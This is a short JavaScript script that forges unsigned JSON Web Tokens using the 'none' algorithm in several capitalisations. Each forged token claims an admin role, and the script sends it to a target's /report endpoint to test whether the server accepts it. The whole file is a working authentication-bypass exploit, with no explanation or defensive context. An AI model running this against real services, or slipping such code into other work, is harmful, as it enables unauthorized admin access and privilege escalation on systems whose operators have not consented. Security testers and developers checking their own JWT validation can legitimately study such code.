const target = process.env.TARGET;
const encode = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");

async function attack() {
  for (const alg of ["None", "NONE", "nOnE"]) {
    const token = `${encode({ alg, typ: "JWT" })}.${encode({ name: "ada", role: "admin" })}.`;
    await fetch(`${target}/report`, { headers: { Authorization: `Bearer ${token}` } });
  }
}

attack();
